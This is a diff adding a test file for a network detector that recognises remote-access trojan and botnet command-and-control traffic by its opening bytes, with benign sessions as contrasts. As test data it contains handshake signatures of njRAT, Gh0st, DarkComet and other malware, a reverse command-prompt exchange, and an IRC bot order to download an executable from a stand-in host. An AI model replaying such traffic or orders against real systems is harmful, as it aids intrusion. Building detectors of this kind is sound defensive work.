@@ -1,0 +1,110 @@
+import { describe, expect, test } from 'vitest'
+import { RemoteSession } from '../../../../support/remote-session.ts'
+import { WatchedTraffic } from '../../../../support/watched-traffic.ts'
+
+const HOST = '192.168.7.20'
+const FAR = '203.0.113.9'
+const SECOND = 1_000_000
+
+const bytes = (text: string): Uint8Array => Uint8Array.from(Buffer.from(text, 'latin1'))
+const zeros = (count: number): string => '\x41'.repeat(count)
+
+function session(traffic: WatchedTraffic, serverPort: number, client = HOST, server = FAR) {
+  return new RemoteSession(traffic, { client, server, clientPort: 50123, serverPort })
+}
+
+type Talk = (session: RemoteSession) => unknown
+
+/** First words as the programs' analyses describe them. */
+const TOOLS: readonly (readonly [name: string, port: number, talk: Talk])[] = [
+  ['njRAT', 5552, (it) => it.say("149\0ll|'|'|SGFja2Vk|'|'|PC|'|'|User").hear("0\0").say("5\0act|'|'|")],
+  ['Gh0st', 8000, (it) => it.say(bytes(`Gh0st\x2d\0\0\0\xf0\0\0\0\x78\x9c${zeros(30)}`)).hear('ok')],
+  ['a Gh0st variant with a token of its own', 8000, (it) => it.say(bytes(`KrisR\x2d\0\0\0\xf0\0\0\0\x78\x9c${zeros(30)}`)).hear('ok')],
+  ['DarkComet', 1604, (it) => it.hear('8EA4AB05FA7E').say('B47CB892B702').hear('00798B4A0595')],
+  ['Poison Ivy', 3460, (it) => it.say(bytes('\xe1\x90'.repeat(128))).hear(bytes('\x83\x11'.repeat(128)))],
+  ['NetWire', 3396, (it) => it.say(bytes(`A\0\0\0\x99${zeros(64)}`)).hear('x')],
+  ['NanoCore', 9000, (it) => it.say(bytes('\x08\0\0\0\xc1\xc3\xd0\x32\x43\x59\xa1\x78')).hear('x')],
+  ['Remcos', 2404, (it) => it.say(bytes(`\x24\x04\xff\0\x20\0\0\0\x4b\0\0\0${zeros(30)}`)).hear('x')],
+  ['Xtreme RAT', 8888, (it) => it.say('myversion|3.6 Public\r\n').hear('x')],
+  ['a stage of Metasploit', 4444, (it) => it.hear(bytes(`\x00\xa0\x02\0MZ\xe8\0\0\0\0${zeros(1200)}`)).say('x')],
+  ['a command prompt that goes out', 4444, (it) => it.say('Microsoft Windows [Version 6.1.7601]\r\n').hear('whoami\n')],
+  ['Mirai', 23, (it) => it.say(bytes('\0\0\0\x01'), 100_000).say(bytes('\0'), 60 * SECOND).say(bytes('\0\0')).hear(bytes('\0\0'), 60 * SECOND).say(bytes('\0\0')).hear(bytes('\0\0'))],
+] // prettier-ignore
+
+describe('a remote-control program that is known by its first words', () => {
+  test.each(TOOLS)('%s is told with host and far end', (_name, port, talk) => {
+    const traffic = new WatchedTraffic()
+    talk(session(traffic, port))
+    const stories = traffic.end()
+    expect(stories).toMatchObject([{ family: 'c2', host: HOST, attacker: FAR }])
+    expect(stories[0]!.severity).toBeGreaterThanOrEqual(4)
+  })
+
+  test('is told over IPv6', () => {
+    const traffic = new WatchedTraffic()
+    session(traffic, 5552, 'fd00::20', '2001:db8::9').say("149\0ll|'|'|SGFja2Vk|'|'|").hear('0')
+    expect(traffic.end()).toMatchObject([
+      { kind: 'c2.rat', host: 'fd00::20', attacker: '2001:db8::9', severity: 7 },
+    ])
+  })
+
+  test('is told where only one way was captured', () => {
+    const traffic = new WatchedTraffic()
+    const ports = { sourcePort: 50123, destinationPort: 5552 }
+    traffic.tcp(HOST, FAR, { ...ports, flags: 'S', sequence: 4999 })
+    const payload = "149\0ll|'|'|SGFja2VkXzEyMzQ1Njc4|'|'|PC|'|'|User|'|'|2020|'|'||'|'|Win 7"
+    traffic.tcp(HOST, FAR, { ...ports, flags: 'PA', sequence: 5000, payload })
+    expect(traffic.end()).toMatchObject([{ kind: 'c2.rat', host: HOST, attacker: FAR }])
+  })
+})
+
+describe('a session in no known protocol', () => {
+  test('that calls home in plain text on an odd port, and obeys who speaks first, is told', () => {
+    const traffic = new WatchedTraffic()
+    const it = session(traffic, 4433)
+      .hear('HELLO|17\r\n')
+      .say('INFO|PC|User|Win7', 5 * SECOND)
+    for (let beat = 0; beat < 14; beat += 1) it.say('STILL?\n', 10 * SECOND)
+    expect(traffic.end()).toMatchObject([{ kind: 'c2.odd-session', host: HOST, attacker: FAR }])
+  })
+
+  test('that a game, a messenger or a home device keeps, framed and regular, is not told', () => {
+    const traffic = new WatchedTraffic()
+    const framed = (length: number): Uint8Array =>
+      bytes(`\0${String.fromCharCode(length)}${'\x99'.repeat(length)}`)
+    const it = session(traffic, 11095).say(framed(120)).hear(framed(80))
+    for (let beat = 0; beat < 20; beat += 1) it.say(framed(30)).hear(framed(30), 30 * SECOND)
+    expect(traffic.end()).toEqual([])
+  })
+
+  test('with many far ends is a peer among peers', () => {
+    const traffic = new WatchedTraffic()
+    for (let peer = 1; peer < 40; peer += 1) {
+      const it = session(traffic, 20_000 + peer * 7, HOST, `198.51.100.${peer}`)
+      for (let round = 0; round < 12; round += 1) it.say('PING?\n', 3 * SECOND)
+    }
+    expect(traffic.end().filter(({ severity }) => severity >= 4).length).toBeLessThanOrEqual(3)
+  })
+})
+
+describe('a bot in an IRC channel', () => {
+  test('at a port of its own, by its name and its orders, is told', () => {
+    const traffic = new WatchedTraffic()
+    session(traffic, 4042)
+      .say('NICK [XP|USA|00|P|12345]\r\nUSER x x x :x\r\n')
+      .hear(':irc.example 001 x :welcome\r\n')
+      .say('JOIN #run key\r\n')
+      .hear(':op!op@x PRIVMSG #run :.download http://203.0.113.1/a.exe\r\n')
+    expect(traffic.end()).toMatchObject([{ kind: 'c2.irc', host: HOST, attacker: FAR }])
+  })
+
+  test('is not seen in people who chat', () => {
+    const traffic = new WatchedTraffic()
+    session(traffic, 6667)
+      .say('NICK alice\r\nUSER alice 0 * :Alice\r\n')
+      .hear(':irc.example 001 alice :welcome\r\n')
+      .say('JOIN #linux\r\n')
+      .hear(':bob!b@x PRIVMSG #linux :hello alice\r\n')
+    expect(traffic.end()).toEqual([])
+  })
+})
